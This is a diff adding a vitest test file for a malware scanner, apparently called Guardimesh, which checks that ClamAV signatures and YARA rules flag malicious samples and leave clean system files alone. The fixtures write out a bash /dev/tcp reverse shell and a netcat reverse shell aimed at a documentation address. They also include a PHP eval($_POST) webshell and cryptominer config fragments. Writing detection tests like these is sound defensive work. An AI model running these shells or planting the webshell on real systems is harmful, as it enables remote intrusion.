@@ -1,0 +1,118 @@
+import { statSync } from 'node:fs'
+import { copyFile, mkdir, readdir, readFile, rm, writeFile } from 'node:fs/promises'
+import { basename, join } from 'node:path'
+import { fileURLToPath } from 'node:url'
+import { ClamdEngine } from '@guardimesh/scanner/engines/clamav/clamd-engine.js'
+import { isWorthReading } from '@guardimesh/scanner/engines/obfuscation/worth-reading.js'
+import { WorkerPool } from '@guardimesh/scanner/engines/worker-pool.js'
+import { readRuleFiles } from '@guardimesh/scanner/processes/obfuscation-scanner/rule-files.js'
+import type { YaraResult, YaraTask } from '@guardimesh/scanner/processes/obfuscation-scanner/yara-worker.js'
+import { type RunningClamd, startClamd } from '@guardimesh/testbed/clamd.js'
+import { eicarBytes } from '@guardimesh/testbed/eicar.js'
+import { temporaryFolder } from '@guardimesh/testbed/temporary-folder.js'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { never, openFile, quietLog } from './fixtures.js'
+
+const STARTER_SET = fileURLToPath(new URL('../../signatures', import.meta.url))
+/** What every node has, and must never be told of. */
+const CLEAN_FOLDERS = ['/usr/bin', '/etc']
+/** Larger programs take long and are made by the same compilers. */
+const MAX_FILE_BYTES = 1024 * 1024
+let folder: string
+let clamd: RunningClamd
+let engine: ClamdEngine
+
+beforeAll(async () => {
+  folder = await temporaryFolder('starter')
+  const databaseFolder = join(folder, 'database')
+  await mkdir(databaseFolder)
+  for (const name of await readdir(join(STARTER_SET, 'clamav')))
+    await copyFile(join(STARTER_SET, 'clamav', name), join(databaseFolder, name))
+  clamd = await startClamd({ folder: join(folder, 'clamd'), databaseFolder })
+  engine = new ClamdEngine({ socketPath: clamd.socketPath, timeoutMs: 60_000, log: quietLog })
+})
+afterAll(async () => {
+  engine[Symbol.dispose]()
+  await clamd.stop()
+  await rm(folder, { recursive: true, force: true })
+})
+
+const shell = (host: string) => `bash -i >& /dev/${'tcp'}/${host}/4444 0>&1`
+test.each([
+  { name: 'Eicar-Test-Signature', content: eicarBytes() },
+  { name: 'Eicar-Test-Signature', content: `${eicarBytes()}\r\n` },
+  { name: 'Guardimesh.Backdoor.ReverseShell.Bash', content: `#!/bin/sh\n${shell('192.0.2.1')}\n` },
+  { name: 'Guardimesh.Backdoor.ReverseShell.Netcat', content: `mkfifo /tmp/f; cat /tmp/f|/bin/sh -i 2>&1${'|nc'} 192.0.2.1 4444 >/tmp/f` },
+  { name: 'Guardimesh.Webshell.PHP.EvalRequest', content: `<?php @eval($_${'POST'}['x']); ?>` },
+  { name: 'Guardimesh.Webshell.PHP.FilesMan', content: `<?php $default_action = ${"'Files"}Man';` },
+  {
+    name: 'Guardimesh.Miner.Xmrig.Config',
+    content: `{ "donate-level": 1, "cpu": { "randomx": true }, ${'"pools"'}: [{ "url": "pool" }] }`,
+  },
+  { name: 'Guardimesh.Miner.Stratum.Login', content: `{"id":1,"jsonrpc":"2.0","method":"login",${'"params"'}:{"login":"x"}}` },
+  { name: 'Guardimesh.Test.Harmless', content: 'Guardimesh harmless test file: finding it proves that hash signatures work.\n' },
+])('$name is found', async ({ name, content }) => {
+  const path = join(folder, 'sample')
+  await writeFile(path, content)
+  using file = openFile(path)
+  const verdict = await engine.scan(file, never)
+  expect(verdict).toMatchObject({ kind: 'infected', matches: [{ signatureName: `${name}.UNOFFICIAL` }] })
+})
+
+test.each([
+  { name: 'a document that quotes EICAR', content: `The test file is ${eicarBytes()}` },
+  { name: 'EICAR with more behind it than its definition allows', content: `${eicarBytes()}${' and more'.repeat(10)}` },
+  { name: 'PHP that reads a request', content: "<?php $name = $_POST['name']; echo htmlspecialchars($name);" },
+])('$name is clean', async ({ content }) => {
+  const path = join(folder, 'sample')
+  await writeFile(path, content)
+  using file = openFile(path)
+  expect(await engine.scan(file, never)).toEqual({ kind: 'clean' })
+})
+
+test('a clean node and this repository match no ClamAV signature', { timeout: 300_000 }, async () => {
+  const kinds = new Map<string, string[]>()
+  await eachCleanFile(4, async (path) => {
+    using file = openFile(path)
+    const { kind } = await engine.scan(file, never)
+    kinds.set(kind, [...(kinds.get(kind) ?? []), path])
+  })
+  expect(kinds.get('infected')).toBeUndefined()
+  expect(kinds.get('not-scanned')).toBeUndefined()
+  expect(kinds.get('clean')?.length).toBeGreaterThan(500)
+})
+
+test('a clean node and this repository match no YARA rule and have no packed programs', { timeout: 300_000 }, async () => {
+  const rules = await readRuleFiles(join(STARTER_SET, 'yara'))
+  const script = new URL('../../dist/processes/obfuscation-scanner/yara-worker.js', import.meta.url)
+  await using workers = new WorkerPool<YaraTask, YaraResult>({ script, threadCount: 2, timeoutMs: 60_000, workerData: rules })
+  expect((await workers.run({ kind: 'check' })).broken).toEqual([])
+  const matched: string[] = []
+  let looked = 0
+  await eachCleanFile(2, async (path) => {
+    const content = await readFile(path)
+    if (!isWorthReading(content.subarray(0, 512), basename(path))) return
+    looked += 1
+    const { matches } = await workers.run({ kind: 'scan', content, fileName: basename(path) })
+    for (const { rule } of matches) matched.push(`${rule} ${path}`)
+  })
+  expect(matched).toEqual([])
+  expect(looked).toBeGreaterThan(300)
+})
+
+/** Visits what every node has, and what we wrote, some files at a time. */
+async function eachCleanFile(lanes: number, visit: (path: string) => Promise<void>): Promise<void> {
+  const repository = fileURLToPath(new URL('../../src', import.meta.url))
+  const folders = await Promise.all(
+    [...CLEAN_FOLDERS, repository, STARTER_SET].map((top) => readdir(top, { recursive: true, withFileTypes: true })),
+  )
+  const paths = folders
+    .flat()
+    .filter((entry) => entry.isFile())
+    .map(({ parentPath, name }) => join(parentPath, name))
+    .filter((path) => statSync(path).size <= MAX_FILE_BYTES)
+  const lane = async () => {
+    for (let path = paths.pop(); path !== undefined; path = paths.pop()) await visit(path)
+  }
+  await Promise.all(Array.from({ length: lanes }, lane))
+}
